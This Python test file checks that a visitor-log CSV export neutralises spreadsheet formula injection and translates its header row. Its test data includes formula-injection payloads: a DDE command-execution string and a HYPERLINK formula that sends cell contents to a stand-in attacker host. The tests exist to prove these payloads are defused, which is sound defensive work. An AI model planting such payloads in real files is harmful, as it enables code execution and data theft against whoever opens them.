"""CSV exports: no cell is a formula when the file is opened in a spreadsheet, and the header row
is in the reader's language (the columns stay in one order in every language)."""

import csv
import io

import pytest
from sqlalchemy import update

from handlers.exports import cell, csv_file
from handlers.messages import File
from handlers.visits.lists import CSV_COLUMNS
from storage.models import Visit
from tests.conftest import BACKEND_AGNOSTIC
from tests.visits_kit import (
    ok,
    sh,
    t,
    visit_in,
)

# what Excel reads as a formula start, and the full-width forms a Chinese keyboard types
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]


def parsed(file: File) -> list[list[str]]:
    assert file.content.startswith("\ufeff") and file.mime == "text/csv"
    return list(csv.reader(io.StringIO(file.content[1:], newline="")))


@pytest.mark.parametrize("start", DANGEROUS, ids=repr)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_leading_quote(start):
    assert cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["", "V-12", "A-07", "13800000001", "更换硬盘", "a=b", "'quoted"])
def test_other_cells_are_left_as_they_are(value):
    assert cell(value) == value


def test_csv_file_neutralises_every_cell_header_included():
    file = csv_file("x.csv", ["=h", "ok"], [["+1", "fine"], ["-2", "@3"]], "caption")
    assert parsed(file) == [["'=h", "ok"], ["'+1", "fine"], ["'-2", "'@3"]]
    assert (file.name, file.caption) == ("x.csv", "caption")


@BACKEND_AGNOSTIC
def test_the_visitor_log_has_no_formula_in_any_cell(chat):
    """Visitor names, companies and tasks starting with each dangerous character (written in the
    database directly: the command grammar trims tabs and line breaks)."""
    planted = {}
    for n, start in enumerate(DANGEROUS):
        ref = visit_in(chat, "approved", extra=f'at="2026-11-25 {9 + n // 4}:{n % 4 * 10:02d}"')
        values = {
            "visitor_name": f"{start}1+1",
            "company": f"{start}cmd|' /C calc'!A0",
            "task": f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")',
        }
        with chat.core.db.unit_of_work() as session:
            session.execute(update(Visit).where(Visit.id == int(ref[2:])).values(**values))
        planted[ref] = values
    chat.clock.set(sh(2026, 11, 25, 9, 0))
    for n, ref in enumerate(planted):
        ok(chat, "bob", f"visit checkin {ref} card=A-{n:02d} verified=yes briefing=yes early=setup")
    [file] = [m for m in chat.say("bob", "visit export 2026-11-25") if isinstance(m, File)]
    rows = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in parsed(file)[1:]]
    assert {r["ref"] for r in rows} == set(planted)
    for row in rows:
        values = planted[row["ref"]]
        assert row["visitor"] == "'" + values["visitor_name"]
        assert row["company"] == "'" + values["company"]
        assert row["task"] == "'" + values["task"]
        assert row["access_card"].startswith("A-")  # the other cells are untouched
        for value in row.values():
            assert not value.startswith(tuple(DANGEROUS)), row


@BACKEND_AGNOSTIC
def test_the_header_row_is_in_the_readers_language_in_the_same_column_order(chat):
    visit_in(chat, "approved")
    for who, locale in (("bob", "en"), ("dan", "zh")):
        [file] = [m for m in chat.say(who, "visit export 2026-11-25") if isinstance(m, File)]
        header = parsed(file)[0]
        assert header == [t(chat, f"csv.visit.{column}", locale) for column in CSV_COLUMNS]
    assert t(chat, "csv.visit.task", "zh") == "维修任务"
    assert t(chat, "csv.visit.task", "en") == "Task"
